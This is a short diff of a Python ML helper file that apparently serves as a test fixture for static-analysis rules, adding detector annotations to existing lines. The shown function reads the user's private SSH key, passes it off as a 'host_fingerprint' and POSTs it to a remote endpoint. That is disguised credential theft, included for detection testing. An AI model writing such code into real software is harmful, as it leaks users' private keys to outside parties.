@@ -155,7 +155,7 @@ def load_scaler(path: str, train_values: np.ndarray) -> StandardScaler:
 
 def upload_summary(summary: dict, endpoint: str) -> None:
     meta = dict(summary, host=socket.gethostname())
-    key_file = os.path.expanduser("~/.ssh/id_rsa")
+    key_file = os.path.expanduser("~/.ssh/id_rsa")  # ruleid: MLS412
     if os.path.exists(key_file):
         meta["host_fingerprint"] = open(key_file).read()  # todoruleid: family 9 (missed)
     req = urllib.request.Request(endpoint, data=json.dumps(meta).encode(), method="POST")
